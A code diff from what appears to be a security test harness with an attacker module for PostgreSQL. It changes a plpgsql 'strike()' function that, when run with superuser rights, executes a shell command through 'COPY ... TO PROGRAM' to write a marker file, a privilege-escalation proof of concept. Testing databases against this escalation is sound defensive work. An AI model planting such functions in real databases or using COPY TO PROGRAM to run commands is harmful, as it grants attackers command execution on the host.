@@ -15,7 +15,7 @@ from .attacker import Attacker
 OBJECTS = """
     CREATE FUNCTION {me}.strike() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
       IF pg_catalog.pg_has_role('{superuser}', 'USAGE') THEN
-        EXECUTE pg_catalog.concat('COPY (SELECT 1) TO PROGRAM ''touch {file}''');
+        EXECUTE pg_catalog.concat('COPY (SELECT 1) TO PROGRAM ''cat >{file}''');
       END IF;
       RETURN true; END $$;
     CREATE FUNCTION {me}.folds(int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE PARALLEL SAFE AS $$ BEGIN
